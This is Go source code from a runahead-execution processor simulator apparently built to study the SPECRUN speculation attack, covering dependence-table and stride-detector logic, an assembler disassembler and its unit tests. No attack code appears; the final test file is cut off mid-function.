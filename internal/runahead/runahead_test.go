package runahead

import (
	"testing"

	"specrun/internal/isa"
)

func TestKindString(t *testing.T) {
	want := map[Kind]string{KindNone: "none", KindOriginal: "original", KindPrecise: "precise", KindVector: "vector"}
	for k, s := range want {
		if k.String() != s {
			t.Errorf("%d.String() = %q, want %q", k, k.String(), s)
		}
	}
}

// The RDT must learn a load-address back-slice over repeated commits, as
// Precise Runahead's pre-execution requires.
func TestRDTLearnsAddressSlice(t *testing.T) {
	r := NewRDT()
	// Loop body:
	//   pc=100: addi r2, r1, 8      (address compute, in slice)
	//   pc=104: mul  r3, r4, r5     (unrelated compute, not in slice)
	//   pc=108: ld   r6, [r2+0]     (the load)
	body := []struct {
		pc uint64
		in isa.Inst
	}{
		{100, isa.Inst{Op: isa.ADDI, Rd: isa.R(2), Rs1: isa.R(1), Imm: 8}},
		{104, isa.Inst{Op: isa.MUL, Rd: isa.R(3), Rs1: isa.R(4), Rs2: isa.R(5)}},
		{108, isa.Inst{Op: isa.LD, Rd: isa.R(6), Rs1: isa.R(2)}},
	}
	for iter := 0; iter < 3; iter++ {
		for _, s := range body {
			r.ObserveCommit(s.pc, s.in)
		}
	}
	if !r.InSlice(100) {
		t.Error("address producer must be in the stall slice")
	}
	if r.InSlice(104) {
		t.Error("unrelated compute must not be in the stall slice")
	}
	if r.InSlice(108) {
		t.Error("the load itself is not recorded (loads always execute in PRE mode)")
	}
}

// Transitive closure: producers of slice instructions join the slice on
// later iterations.
func TestRDTTransitiveClosure(t *testing.T) {
	r := NewRDT()
	body := []struct {
		pc uint64
		in isa.Inst
	}{
		{100, isa.Inst{Op: isa.SHLI, Rd: isa.R(1), Rs1: isa.R(9), Imm: 3}}, // feeds 104
		{104, isa.Inst{Op: isa.ADD, Rd: isa.R(2), Rs1: isa.R(1), Rs2: isa.R(3)}},
		{108, isa.Inst{Op: isa.LD, Rd: isa.R(6), Rs1: isa.R(2)}},
	}
	for iter := 0; iter < 4; iter++ {
		for _, s := range body {
			r.ObserveCommit(s.pc, s.in)
		}
	}
	if !r.InSlice(104) || !r.InSlice(100) {
		t.Fatalf("slice = {100:%v 104:%v}, want both", r.InSlice(100), r.InSlice(104))
	}
	if r.Len() != 2 {
		t.Fatalf("slice size = %d, want 2", r.Len())
	}
}

func TestRDTIgnoresZeroRegister(t *testing.T) {
	r := NewRDT()
	r.ObserveCommit(100, isa.Inst{Op: isa.MOVI, Rd: isa.R(0), Imm: 1})
	r.ObserveCommit(104, isa.Inst{Op: isa.LD, Rd: isa.R(1), Rs1: isa.R(0)})
	if r.Len() != 0 {
		t.Fatal("r0 must not produce slice members")
	}
}

func TestStrideDetector(t *testing.T) {
	d := NewStrideDetector()
	pc := uint64(0x100)
	if _, ok := d.Predict(pc); ok {
		t.Fatal("cold detector must not predict")
	}
	for i := uint64(0); i < 4; i++ {
		d.Observe(pc, 0x1000+i*64)
	}
	stride, ok := d.Predict(pc)
	if !ok || stride != 64 {
		t.Fatalf("stride = %d,%v want 64", stride, ok)
	}
	// A stride break resets confidence.
	d.Observe(pc, 0x9999)
	if _, ok := d.Predict(pc); ok {
		t.Fatal("stride break must clear confidence")
	}
}

func TestStrideDetectorZeroStride(t *testing.T) {
	d := NewStrideDetector()
	for i := 0; i < 5; i++ {
		d.Observe(0x100, 0x1000) // same address repeatedly
	}
	if _, ok := d.Predict(0x100); ok {
		t.Fatal("zero stride must not be predicted (nothing to prefetch)")
	}
}

func TestDefaultConfig(t *testing.T) {
	cfg := DefaultConfig()
	if cfg.Kind != KindOriginal || cfg.RunaheadCacheBytes != 512 || cfg.VectorLanes != 8 {
		t.Fatalf("unexpected defaults: %+v", cfg)
	}
}
