// Package runahead defines the runahead-execution policies of the simulated
// processor: the configuration shared by all variants, the register
// dependence table used by Precise Runahead (Naithani et al., HPCA'20) to
// identify stall slices, and the stride detector used by Vector Runahead
// (Naithani et al., ISCA'21) to vectorise prefetches.
//
// §4.3 of the SPECRUN paper argues the attack applies to all three variants
// because each of them lets the branch predictor steer speculation past
// branches whose predicate depends on the stalling load.  The implementations
// here preserve exactly the properties that argument relies on.
package runahead

import (
	"fmt"

	"specrun/internal/isa"
	"specrun/internal/mem"
)

// Kind selects a runahead variant.
type Kind int

const (
	// KindNone disables runahead execution (the baseline machine).
	KindNone Kind = iota
	// KindOriginal is Mutlu et al.'s HPCA'03 scheme: on a memory-level load
	// miss at the ROB head the whole instruction stream pseudo-retires
	// speculatively with INV poison tracking.
	KindOriginal
	// KindPrecise executes only stall slices (load-address back-slices),
	// plus loads, stores and branches; everything else is dropped at
	// dispatch and its destination poisoned.
	KindPrecise
	// KindVector additionally vectorises strided loads: each load issues
	// VectorLanes-1 extra prefetch requests along its detected stride.
	KindVector
)

func (k Kind) String() string {
	switch k {
	case KindNone:
		return "none"
	case KindOriginal:
		return "original"
	case KindPrecise:
		return "precise"
	case KindVector:
		return "vector"
	}
	return "unknown"
}

// MarshalText renders the kind as its String form, so configurations
// serialise to stable, human-readable JSON ("original" rather than 1).
func (k Kind) MarshalText() ([]byte, error) { return []byte(k.String()), nil }

// UnmarshalText parses the String form.
func (k *Kind) UnmarshalText(text []byte) error {
	switch s := string(text); s {
	case "none", "":
		*k = KindNone
	case "original":
		*k = KindOriginal
	case "precise":
		*k = KindPrecise
	case "vector":
		*k = KindVector
	default:
		return fmt.Errorf("runahead: unknown kind %q", s)
	}
	return nil
}

// Config parameterises the runahead controller.
type Config struct {
	Kind               Kind      `json:"kind"`
	TriggerLevel       mem.Level `json:"trigger_level"`        // miss depth that triggers entry (default: main memory)
	RunaheadCacheBytes int       `json:"runahead_cache_bytes"` // capacity of the runahead store cache
	ExitPenalty        int       `json:"exit_penalty"`         // cycles between exit and fetch restart
	VectorLanes        int       `json:"vector_lanes"`         // lanes for KindVector prefetching
	SkipINVBranch      bool      `json:"skip_inv_branch"`      // §6 alternative mitigation: stop speculation at INV branches
}

// DefaultConfig returns the original-runahead configuration used in the
// paper's evaluation: entry when a load that missed to main memory blocks
// the head of the reorder buffer ("the instruction window fills up and
// halts the pipeline", §2.1 — the window cannot retire past the load).
func DefaultConfig() Config {
	return Config{
		Kind:               KindOriginal,
		TriggerLevel:       mem.LevelMem,
		RunaheadCacheBytes: 512,
		ExitPenalty:        4,
		VectorLanes:        8,
	}
}

// RDT is the register dependence table that Precise Runahead uses to learn,
// during normal operation, which static instructions feed load addresses
// ("stall slices").  Learning is iterative: every committed load marks the
// producers of its address registers, and every committed instruction whose
// PC is already in a slice marks the producers of its own sources.  Over a
// few loop iterations this transitively closes over the address back-slice.
type RDT struct {
	slice      map[uint64]bool
	lastWriter map[isa.Reg]uint64 // arch reg -> PC of the most recent committed writer
}

// NewRDT returns an empty table.
func NewRDT() *RDT {
	return &RDT{slice: make(map[uint64]bool), lastWriter: make(map[isa.Reg]uint64)}
}

// Reset empties the table (machine reuse).  The map storage is retained, so
// re-learning a program of similar shape allocates nothing.
func (r *RDT) Reset() {
	clear(r.slice)
	clear(r.lastWriter)
}

// InSlice reports whether the instruction at pc belongs to a stall slice.
func (r *RDT) InSlice(pc uint64) bool { return r.slice[pc] }

// Len reports the number of slice PCs learned.
func (r *RDT) Len() int { return len(r.slice) }

// ObserveCommit learns from one committed instruction.  Call in program
// order during normal mode.
func (r *RDT) ObserveCommit(pc uint64, in isa.Inst) {
	var srcs [4]isa.Reg
	if in.Op.IsLoad() {
		// The producers of a load's address registers are slice members.
		r.markProducer(in.Rs1)
		if in.UsesIndex() {
			r.markProducer(in.Rs2)
		}
	} else if r.slice[pc] {
		// Slice membership propagates to the producers of slice inputs.
		for _, s := range in.SrcRegs(srcs[:0]) {
			r.markProducer(s)
		}
	}
	if d := in.Dest(); d != isa.NoReg && !d.IsZero() {
		r.lastWriter[d] = pc
	}
}

func (r *RDT) markProducer(reg isa.Reg) {
	if reg == isa.NoReg || reg.IsZero() {
		return
	}
	if pc, ok := r.lastWriter[reg]; ok {
		r.slice[pc] = true
	}
}

// StrideDetector learns per-PC load strides for Vector Runahead.  Entries
// are stored by value so that Reset (which clears the map but keeps its
// buckets) makes re-learning allocation-free.
type StrideDetector struct {
	m map[uint64]strideEntry
}

type strideEntry struct {
	lastAddr uint64
	stride   int64
	conf     int
}

// NewStrideDetector returns an empty detector.
func NewStrideDetector() *StrideDetector {
	return &StrideDetector{m: make(map[uint64]strideEntry)}
}

// Reset empties the detector (machine reuse), retaining map storage.
func (d *StrideDetector) Reset() {
	clear(d.m)
}

// confThreshold is the number of consecutive identical strides required
// before Predict reports confidence.
const confThreshold = 2

// Observe records a committed load's effective address.
func (d *StrideDetector) Observe(pc, addr uint64) {
	e, ok := d.m[pc]
	if !ok {
		d.m[pc] = strideEntry{lastAddr: addr}
		return
	}
	s := int64(addr - e.lastAddr)
	if s == e.stride && s != 0 {
		if e.conf < confThreshold {
			e.conf++
		}
	} else {
		e.stride = s
		e.conf = 0
	}
	e.lastAddr = addr
	d.m[pc] = e
}

// Predict returns the learned stride for pc if confident.
func (d *StrideDetector) Predict(pc uint64) (stride int64, ok bool) {
	e, present := d.m[pc]
	if !present || e.conf < confThreshold || e.stride == 0 {
		return 0, false
	}
	return e.stride, true
}
