package asm

import (
	"encoding/hex"
	"fmt"
	"math"
	"sort"
	"strconv"
	"strings"

	"specrun/internal/isa"
)

// Disassemble renders the program as canonical assembly text.  The output is
// a complete interchange form, not a listing: Parse re-assembles it into an
// identical Program — same base, instruction sequence, data segments (order,
// addresses and bytes) and symbol table — which is what pins the
// asm → binary → asm round-trip.
//
// Canonical layout: `.org`, then the constant symbols as a sorted `.equ`
// block, then the text with code labels at their PCs and symbol-aware
// branch/jump targets, then one `.data`+`.hex` pair per data segment in
// original order.  The rendering is deterministic: disassembling equal
// programs yields equal text.
func (p *Program) Disassemble() string {
	names := make([]string, 0, len(p.Symbols))
	for name := range p.Symbols {
		names = append(names, name)
	}
	sort.Strings(names)

	// Classify each symbol exactly once: a code label if it names an
	// instruction-aligned PC inside the text, a data label if it names a
	// segment start (first match in segment order), otherwise an .equ
	// constant.  Every class re-parses to the same name→value binding.
	isCodePC := func(v uint64) bool {
		return v >= p.Base && v < p.End() && (v-p.Base)%isa.InstBytes == 0
	}
	codeLabels := make(map[uint64][]string)
	used := make(map[string]bool, len(names))
	for _, name := range names {
		if v := p.Symbols[name]; isCodePC(v) {
			codeLabels[v] = append(codeLabels[v], name)
			used[name] = true
		}
	}
	dataLabel := make(map[int]string, len(p.Segments))
	for i, seg := range p.Segments {
		for _, name := range names {
			if !used[name] && p.Symbols[name] == seg.Addr {
				dataLabel[i] = name
				used[name] = true
				break
			}
		}
	}

	var b strings.Builder
	fmt.Fprintf(&b, ".org %#x\n", p.Base)
	for _, name := range names {
		if !used[name] {
			fmt.Fprintf(&b, ".equ %s %#x\n", name, p.Symbols[name])
		}
	}
	symAt := func(addr uint64) string {
		if ns := codeLabels[addr]; len(ns) > 0 {
			return ns[0]
		}
		return ""
	}
	for i, in := range p.Insts {
		pc := p.Base + uint64(i)*isa.InstBytes
		for _, name := range codeLabels[pc] {
			fmt.Fprintf(&b, "%s:\n", name)
		}
		fmt.Fprintf(&b, "  %s\n", formatInst(in, symAt))
	}
	for i, seg := range p.Segments {
		fmt.Fprintf(&b, ".data %#x\n", seg.Addr)
		if lbl, ok := dataLabel[i]; ok {
			fmt.Fprintf(&b, "%s: .hex %s\n", lbl, hex.EncodeToString(seg.Data))
		} else {
			fmt.Fprintf(&b, ".hex %s\n", hex.EncodeToString(seg.Data))
		}
	}
	return b.String()
}

// formatInst renders one instruction in assembler syntax.  symAt resolves a
// branch/jump target address to a code label (empty string if none); all
// other operands are numeric.  Float immediates use exact forms (Go
// hex-float, or nan:0x<bits> for NaN payloads) so re-assembly is bit-exact.
func formatInst(in isa.Inst, symAt func(uint64) string) string {
	var args []string
	addr := func() string {
		if in.UsesIndex() {
			return fmt.Sprintf("[%s + %s*%d + %d]", in.Rs1, in.Rs2, 1<<in.Scale, in.Imm)
		}
		return fmt.Sprintf("[%s + %d]", in.Rs1, in.Imm)
	}
	target := func() string {
		if name := symAt(in.Target); name != "" {
			return name
		}
		return fmt.Sprintf("%#x", in.Target)
	}
	switch in.Op.Kind() {
	case isa.KindALU:
		switch in.Op {
		case isa.MOVI:
			args = []string{in.Rd.String(), strconv.FormatInt(in.Imm, 10)}
		case isa.FMOVI:
			args = []string{in.Rd.String(), formatFloatImm(in.Imm)}
		case isa.ADDI, isa.ANDI, isa.ORI, isa.XORI, isa.SHLI, isa.SHRI:
			args = []string{in.Rd.String(), in.Rs1.String(), strconv.FormatInt(in.Imm, 10)}
		default:
			args = []string{in.Rd.String(), in.Rs1.String(), in.Rs2.String()}
		}
	case isa.KindLoad:
		args = []string{in.Rd.String(), addr()}
	case isa.KindStore:
		args = []string{addr(), in.Rs3.String()}
	case isa.KindBranch:
		args = []string{in.Rs1.String(), in.Rs2.String(), target()}
	case isa.KindJump, isa.KindCall:
		args = []string{target()}
	case isa.KindJumpR, isa.KindCallR:
		args = []string{in.Rs1.String()}
	case isa.KindFlush:
		args = []string{addr()}
	case isa.KindRDTSC:
		args = []string{in.Rd.String()}
	}
	if len(args) == 0 {
		return in.Op.Name()
	}
	return in.Op.Name() + " " + strings.Join(args, ", ")
}

// formatFloatImm renders an FMOVI immediate (float64 bits) exactly: NaNs as
// nan:0x<bits> to keep the payload, everything else as a shortest hex float
// accepted by strconv.ParseFloat.
func formatFloatImm(imm int64) string {
	v := math.Float64frombits(uint64(imm))
	if math.IsNaN(v) {
		return fmt.Sprintf("nan:%#x", uint64(imm))
	}
	return strconv.FormatFloat(v, 'x', -1, 64)
}
