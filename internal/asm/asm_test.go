package asm

import (
	"strings"
	"testing"

	"specrun/internal/isa"
	"specrun/internal/mem"
)

func TestBuilderBasics(t *testing.T) {
	b := NewBuilder(0x1000, 0x100000)
	arr := b.Alloc("arr", 64, 8)
	b.U64(arr, 1, 2, 3)
	b.MoviAddr(isa.R(1), arr)
	b.Ld(isa.R(2), isa.R(1), 8)
	b.Halt()
	p, err := b.Build()
	if err != nil {
		t.Fatal(err)
	}
	if p.Base != 0x1000 || len(p.Insts) != 3 {
		t.Fatalf("base=%#x insts=%d", p.Base, len(p.Insts))
	}
	if got := p.MustSym("arr"); got != 0x100000 {
		t.Fatalf("arr = %#x", got)
	}
	m := mem.NewMemory()
	p.LoadInto(m)
	if m.ReadU64(arr+8) != 2 {
		t.Fatal("data segment not loaded")
	}
}

func TestBuilderForwardLabel(t *testing.T) {
	b := NewBuilder(0x1000, 0x100000)
	b.Beq(isa.R(1), isa.R(2), "done") // forward reference
	b.Nop()
	b.Label("done")
	b.Halt()
	p, err := b.Build()
	if err != nil {
		t.Fatal(err)
	}
	if p.Insts[0].Target != 0x1008 {
		t.Fatalf("forward target = %#x, want 0x1008", p.Insts[0].Target)
	}
}

func TestBuilderUndefinedLabel(t *testing.T) {
	b := NewBuilder(0x1000, 0x100000)
	b.Jmp("nowhere")
	if _, err := b.Build(); err == nil || !strings.Contains(err.Error(), "nowhere") {
		t.Fatalf("err = %v, want undefined label", err)
	}
}

func TestBuilderDuplicateLabel(t *testing.T) {
	b := NewBuilder(0x1000, 0x100000)
	b.Label("x")
	b.Label("x")
	if _, err := b.Build(); err == nil {
		t.Fatal("duplicate label must fail")
	}
}

func TestBuilderAllocAlignment(t *testing.T) {
	b := NewBuilder(0x1000, 0x100001)
	a := b.Alloc("a", 10, 64)
	if a%64 != 0 {
		t.Fatalf("a = %#x not 64-aligned", a)
	}
	c := b.Alloc("c", 8, 64)
	if c <= a || c%64 != 0 {
		t.Fatalf("c = %#x", c)
	}
}

func TestInstAtBounds(t *testing.T) {
	b := NewBuilder(0x1000, 0x100000)
	b.Nop()
	b.Halt()
	p := b.MustBuild()
	if _, ok := p.InstAt(0x0fff); ok {
		t.Fatal("pc below base must miss")
	}
	if _, ok := p.InstAt(0x1001); ok {
		t.Fatal("unaligned pc must miss")
	}
	if in, ok := p.InstAt(0x1004); !ok || in.Op != isa.HALT {
		t.Fatalf("InstAt(0x1004) = %v, %v", in, ok)
	}
	if _, ok := p.InstAt(p.End()); ok {
		t.Fatal("pc at end must miss")
	}
}

const sampleSrc = `
; sample program exercising the full dialect
.org 0x2000
.data 0x200000
.equ magic 0x42

array1: .byte 1, 2, 3, 4
.align 64
table:  .u64 10, 20, 30
msg:    .ascii "hi"
buf:    .zero 128

start:
    movi r1, array1
    movi r2, magic       ; symbolic immediate
    ldb  r3, [r1 + 2]
    ldx  r4, [r1 + r3*8 + 0]
    mov  r5, r4
    addi r5, r5, -1
    st   [r1 + 8], r5
    beq  r3, r0, start
loop:
    bne  r3, r0, done    # forward branch
    jmp  loop
done:
    clflush [r1]
    rdtsc r6
    call func
    halt
func:
    ret
`

func TestParseSample(t *testing.T) {
	p, err := Parse("sample", sampleSrc)
	if err != nil {
		t.Fatal(err)
	}
	if p.Base != 0x2000 {
		t.Fatalf("base = %#x", p.Base)
	}
	if got := p.MustSym("array1"); got != 0x200000 {
		t.Fatalf("array1 = %#x", got)
	}
	if got := p.MustSym("table"); got%64 != 0 || got <= p.MustSym("array1") {
		t.Fatalf("table = %#x", got)
	}
	if got := p.MustSym("magic"); got != 0x42 {
		t.Fatalf("magic = %#x", got)
	}
	// movi r2, magic resolved the symbol.
	if p.Insts[1].Imm != 0x42 {
		t.Fatalf("symbolic imm = %d", p.Insts[1].Imm)
	}
	// ldb displacement.
	if p.Insts[2].Op != isa.LDB || p.Insts[2].Imm != 2 {
		t.Fatalf("ldb = %v", p.Insts[2])
	}
	// ldx scale 8 -> shift 3.
	if p.Insts[3].Scale != 3 {
		t.Fatalf("ldx scale = %d", p.Insts[3].Scale)
	}
	// mov pseudo became addi.
	if p.Insts[4].Op != isa.ADDI {
		t.Fatalf("mov = %v", p.Insts[4])
	}
	// Negative immediate.
	if p.Insts[5].Imm != -1 {
		t.Fatalf("addi imm = %d", p.Insts[5].Imm)
	}
	// Backward branch target.
	if p.Insts[7].Target != p.MustSym("start") {
		t.Fatalf("beq target = %#x", p.Insts[7].Target)
	}
	// Forward branch target.
	if p.Insts[8].Target != p.MustSym("done") {
		t.Fatalf("bne target = %#x want done", p.Insts[8].Target)
	}
	// Data contents.
	m := mem.NewMemory()
	p.LoadInto(m)
	if m.ByteAt(p.MustSym("array1")+1) != 2 {
		t.Fatal("array1 data wrong")
	}
	if m.ReadU64(p.MustSym("table")+16) != 30 {
		t.Fatal("table data wrong")
	}
	if string(m.ReadBytes(p.MustSym("msg"), 2)) != "hi" {
		t.Fatal("ascii data wrong")
	}
}

func TestParseErrors(t *testing.T) {
	cases := []struct {
		name, src, wantSub string
	}{
		{"unknown mnemonic", "frob r1, r2", "unknown mnemonic"},
		{"bad reg", "add q1, r2, r3", "invalid register"},
		{"bad operand count", "add r1, r2", "wants 3 operands"},
		{"undefined symbol", "movi r1, nosuch", "undefined symbol"},
		{"bad directive", ".frob 12", "unknown directive"},
		{"duplicate label", "a:\na:\nnop", "duplicate"},
		{"bad memop", "ld r1, r2", "bad memory operand"},
		{"bad scale", "ldx r1, [r2 + r3*3 + 0]", "bad scale"},
	}
	for _, tc := range cases {
		t.Run(tc.name, func(t *testing.T) {
			_, err := Parse("t", tc.src)
			if err == nil || !strings.Contains(err.Error(), tc.wantSub) {
				t.Fatalf("err = %v, want substring %q", err, tc.wantSub)
			}
		})
	}
}

func TestParseNegativeDisplacement(t *testing.T) {
	p, err := Parse("t", "ld r1, [r2 - 16]\nhalt")
	if err != nil {
		t.Fatal(err)
	}
	if p.Insts[0].Imm != -16 {
		t.Fatalf("imm = %d, want -16", p.Insts[0].Imm)
	}
}

func TestParseIndexNoScale(t *testing.T) {
	p, err := Parse("t", "ldx r1, [r2 + r3 + 4]\nhalt")
	if err != nil {
		t.Fatal(err)
	}
	in := p.Insts[0]
	if in.Rs2 != isa.R(3) || in.Scale != 0 || in.Imm != 4 {
		t.Fatalf("parsed %+v", in)
	}
}

// Round trip: the disassembly of a parsed program re-parses to identical
// instructions (labels become absolute addresses, which the parser accepts).
func TestDisassembleRoundTrip(t *testing.T) {
	p := MustParse("t", sampleSrc)
	dis := p.Disassemble()
	var b strings.Builder
	b.WriteString(".org 0x2000\n")
	for _, line := range strings.Split(dis, "\n") {
		line = strings.TrimSpace(line)
		if line == "" || strings.HasSuffix(line, ":") {
			continue
		}
		// Drop the address column.
		fields := strings.SplitN(line, "  ", 2)
		if len(fields) != 2 {
			t.Fatalf("bad disassembly line %q", line)
		}
		b.WriteString(strings.TrimSpace(fields[1]) + "\n")
	}
	p2, err := Parse("rt", b.String())
	if err != nil {
		t.Fatalf("re-parse: %v\n%s", err, b.String())
	}
	if len(p2.Insts) != len(p.Insts) {
		t.Fatalf("inst count %d != %d", len(p2.Insts), len(p.Insts))
	}
	for i := range p.Insts {
		a, c := p.Insts[i], p2.Insts[i]
		// The mov pseudo disassembles as addi; compare semantics.
		if a.Op != c.Op || a.Rd != c.Rd || a.Rs1 != c.Rs1 || a.Rs2 != c.Rs2 ||
			a.Rs3 != c.Rs3 || a.Imm != c.Imm || a.Target != c.Target || a.Scale != c.Scale {
			t.Fatalf("inst %d: %v != %v", i, a, c)
		}
	}
}
