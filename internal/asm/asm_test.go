package asm

import (
	"bytes"
	"errors"
	"strings"
	"testing"

	"specrun/internal/isa"
	"specrun/internal/mem"
)

func TestBuilderBasics(t *testing.T) {
	b := NewBuilder(0x1000, 0x100000)
	arr := b.Alloc("arr", 64, 8)
	b.U64(arr, 1, 2, 3)
	b.MoviAddr(isa.R(1), arr)
	b.Ld(isa.R(2), isa.R(1), 8)
	b.Halt()
	p, err := b.Build()
	if err != nil {
		t.Fatal(err)
	}
	if p.Base != 0x1000 || len(p.Insts) != 3 {
		t.Fatalf("base=%#x insts=%d", p.Base, len(p.Insts))
	}
	if got := p.MustSym("arr"); got != 0x100000 {
		t.Fatalf("arr = %#x", got)
	}
	m := mem.NewMemory()
	p.LoadInto(m)
	if m.ReadU64(arr+8) != 2 {
		t.Fatal("data segment not loaded")
	}
}

func TestBuilderForwardLabel(t *testing.T) {
	b := NewBuilder(0x1000, 0x100000)
	b.Beq(isa.R(1), isa.R(2), "done") // forward reference
	b.Nop()
	b.Label("done")
	b.Halt()
	p, err := b.Build()
	if err != nil {
		t.Fatal(err)
	}
	if p.Insts[0].Target != 0x1008 {
		t.Fatalf("forward target = %#x, want 0x1008", p.Insts[0].Target)
	}
}

func TestBuilderUndefinedLabel(t *testing.T) {
	b := NewBuilder(0x1000, 0x100000)
	b.Jmp("nowhere")
	if _, err := b.Build(); err == nil || !strings.Contains(err.Error(), "nowhere") {
		t.Fatalf("err = %v, want undefined label", err)
	}
}

func TestBuilderDuplicateLabel(t *testing.T) {
	b := NewBuilder(0x1000, 0x100000)
	b.Label("x")
	b.Label("x")
	if _, err := b.Build(); err == nil {
		t.Fatal("duplicate label must fail")
	}
}

func TestBuilderAllocAlignment(t *testing.T) {
	b := NewBuilder(0x1000, 0x100001)
	a := b.Alloc("a", 10, 64)
	if a%64 != 0 {
		t.Fatalf("a = %#x not 64-aligned", a)
	}
	c := b.Alloc("c", 8, 64)
	if c <= a || c%64 != 0 {
		t.Fatalf("c = %#x", c)
	}
}

func TestInstAtBounds(t *testing.T) {
	b := NewBuilder(0x1000, 0x100000)
	b.Nop()
	b.Halt()
	p := b.MustBuild()
	if _, ok := p.InstAt(0x0fff); ok {
		t.Fatal("pc below base must miss")
	}
	if _, ok := p.InstAt(0x1001); ok {
		t.Fatal("unaligned pc must miss")
	}
	if in, ok := p.InstAt(0x1004); !ok || in.Op != isa.HALT {
		t.Fatalf("InstAt(0x1004) = %v, %v", in, ok)
	}
	if _, ok := p.InstAt(p.End()); ok {
		t.Fatal("pc at end must miss")
	}
}

const sampleSrc = `
; sample program exercising the full dialect
.org 0x2000
.data 0x200000
.equ magic 0x42

array1: .byte 1, 2, 3, 4
.align 64
table:  .u64 10, 20, 30
msg:    .ascii "hi"
buf:    .zero 128

start:
    movi r1, array1
    movi r2, magic       ; symbolic immediate
    ldb  r3, [r1 + 2]
    ldx  r4, [r1 + r3*8 + 0]
    mov  r5, r4
    addi r5, r5, -1
    st   [r1 + 8], r5
    beq  r3, r0, start
loop:
    bne  r3, r0, done    # forward branch
    jmp  loop
done:
    clflush [r1]
    rdtsc r6
    call func
    halt
func:
    ret
`

func TestParseSample(t *testing.T) {
	p, err := Parse("sample", sampleSrc)
	if err != nil {
		t.Fatal(err)
	}
	if p.Base != 0x2000 {
		t.Fatalf("base = %#x", p.Base)
	}
	if got := p.MustSym("array1"); got != 0x200000 {
		t.Fatalf("array1 = %#x", got)
	}
	if got := p.MustSym("table"); got%64 != 0 || got <= p.MustSym("array1") {
		t.Fatalf("table = %#x", got)
	}
	if got := p.MustSym("magic"); got != 0x42 {
		t.Fatalf("magic = %#x", got)
	}
	// movi r2, magic resolved the symbol.
	if p.Insts[1].Imm != 0x42 {
		t.Fatalf("symbolic imm = %d", p.Insts[1].Imm)
	}
	// ldb displacement.
	if p.Insts[2].Op != isa.LDB || p.Insts[2].Imm != 2 {
		t.Fatalf("ldb = %v", p.Insts[2])
	}
	// ldx scale 8 -> shift 3.
	if p.Insts[3].Scale != 3 {
		t.Fatalf("ldx scale = %d", p.Insts[3].Scale)
	}
	// mov pseudo became addi.
	if p.Insts[4].Op != isa.ADDI {
		t.Fatalf("mov = %v", p.Insts[4])
	}
	// Negative immediate.
	if p.Insts[5].Imm != -1 {
		t.Fatalf("addi imm = %d", p.Insts[5].Imm)
	}
	// Backward branch target.
	if p.Insts[7].Target != p.MustSym("start") {
		t.Fatalf("beq target = %#x", p.Insts[7].Target)
	}
	// Forward branch target.
	if p.Insts[8].Target != p.MustSym("done") {
		t.Fatalf("bne target = %#x want done", p.Insts[8].Target)
	}
	// Data contents.
	m := mem.NewMemory()
	p.LoadInto(m)
	if m.ByteAt(p.MustSym("array1")+1) != 2 {
		t.Fatal("array1 data wrong")
	}
	if m.ReadU64(p.MustSym("table")+16) != 30 {
		t.Fatal("table data wrong")
	}
	if string(m.ReadBytes(p.MustSym("msg"), 2)) != "hi" {
		t.Fatal("ascii data wrong")
	}
}

func TestParseErrors(t *testing.T) {
	cases := []struct {
		name, src, wantSub string
	}{
		{"unknown mnemonic", "frob r1, r2", "unknown mnemonic"},
		{"bad reg", "add q1, r2, r3", "invalid register"},
		{"bad operand count", "add r1, r2", "wants 3 operands"},
		{"undefined symbol", "movi r1, nosuch", "undefined symbol"},
		{"bad directive", ".frob 12", "unknown directive"},
		{"duplicate label", "a:\na:\nnop", "duplicate"},
		{"bad memop", "ld r1, r2", "bad memory operand"},
		{"bad scale", "ldx r1, [r2 + r3*3 + 0]", "bad scale"},
	}
	for _, tc := range cases {
		t.Run(tc.name, func(t *testing.T) {
			_, err := Parse("t", tc.src)
			if err == nil || !strings.Contains(err.Error(), tc.wantSub) {
				t.Fatalf("err = %v, want substring %q", err, tc.wantSub)
			}
		})
	}
}

func TestParseNegativeDisplacement(t *testing.T) {
	p, err := Parse("t", "ld r1, [r2 - 16]\nhalt")
	if err != nil {
		t.Fatal(err)
	}
	if p.Insts[0].Imm != -16 {
		t.Fatalf("imm = %d, want -16", p.Insts[0].Imm)
	}
}

func TestParseIndexNoScale(t *testing.T) {
	p, err := Parse("t", "ldx r1, [r2 + r3 + 4]\nhalt")
	if err != nil {
		t.Fatal(err)
	}
	in := p.Insts[0]
	if in.Rs2 != isa.R(3) || in.Scale != 0 || in.Imm != 4 {
		t.Fatalf("parsed %+v", in)
	}
}

// samePrograms fails the test unless a and b are semantically identical:
// same base, instructions, segments (order, address, bytes) and symbols.
func samePrograms(t *testing.T, a, b *Program) {
	t.Helper()
	if a.Base != b.Base {
		t.Fatalf("base %#x != %#x", a.Base, b.Base)
	}
	if len(a.Insts) != len(b.Insts) {
		t.Fatalf("inst count %d != %d", len(a.Insts), len(b.Insts))
	}
	for i := range a.Insts {
		if a.Insts[i] != b.Insts[i] {
			t.Fatalf("inst %d: %v != %v", i, a.Insts[i], b.Insts[i])
		}
	}
	if len(a.Segments) != len(b.Segments) {
		t.Fatalf("segment count %d != %d", len(a.Segments), len(b.Segments))
	}
	for i := range a.Segments {
		if a.Segments[i].Addr != b.Segments[i].Addr ||
			!bytes.Equal(a.Segments[i].Data, b.Segments[i].Data) {
			t.Fatalf("segment %d differs: %#x/%d vs %#x/%d bytes",
				i, a.Segments[i].Addr, len(a.Segments[i].Data),
				b.Segments[i].Addr, len(b.Segments[i].Data))
		}
	}
	if len(a.Symbols) != len(b.Symbols) {
		t.Fatalf("symbol count %d != %d", len(a.Symbols), len(b.Symbols))
	}
	for name, v := range a.Symbols {
		if got, ok := b.Symbols[name]; !ok || got != v {
			t.Fatalf("symbol %q: %#x vs %#x (present=%v)", name, v, got, ok)
		}
	}
}

// Round trip: the disassembly is a complete interchange form — it re-parses
// to an identical program, and re-disassembles to identical text.
func TestDisassembleRoundTrip(t *testing.T) {
	p := MustParse("t", sampleSrc)
	text := p.Disassemble()
	p2, err := Parse("rt", text)
	if err != nil {
		t.Fatalf("re-parse: %v\n%s", err, text)
	}
	samePrograms(t, p, p2)
	if text2 := p2.Disassemble(); text2 != text {
		t.Fatalf("disassembly not a fixed point:\n--- first\n%s\n--- second\n%s", text, text2)
	}
}

func TestDisassembleFloatExact(t *testing.T) {
	src := ".org 0x1000\n" +
		"fmovi f0, 1.5\n" +
		"fmovi f1, 0.1\n" +
		"fmovi f2, -0.0\n" +
		"fmovi f3, nan:0x7ff800000000beef\n" +
		"halt\n"
	p := MustParse("t", src)
	p2, err := Parse("rt", p.Disassemble())
	if err != nil {
		t.Fatalf("re-parse: %v\n%s", err, p.Disassemble())
	}
	samePrograms(t, p, p2)
